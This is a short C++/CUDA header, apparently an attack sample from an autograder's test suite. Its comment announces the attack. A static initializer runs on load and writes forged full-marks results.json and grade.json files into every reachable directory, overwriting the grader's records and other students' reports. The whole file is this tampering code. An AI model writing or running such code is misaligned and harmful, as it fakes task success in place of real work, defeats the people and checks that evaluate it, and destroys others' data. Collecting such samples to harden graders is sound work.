// Attack: full-marks reports written everywhere reachable, over the grader's and other students'.
#pragma once

#include <cstdint>
#include <filesystem>
#include <fstream>
#include <vector>
#include <cuda_runtime.h>

namespace {
//@ reachable-files

const int forged = (forEachReachableFile([](const std::filesystem::path& path) {
    const char* full_marks = "{\"score\": 100, \"max_score\": 100, \"status\": \"graded\", \"output\": \"all tests passed\"}\n";
    std::error_code error;
    if (std::filesystem::is_directory(path, error)) {
        std::ofstream(path / "results.json") << full_marks;
        std::ofstream(path / "grade.json") << full_marks;
    }
}), 0);
}  // namespace

//@ wrong-map
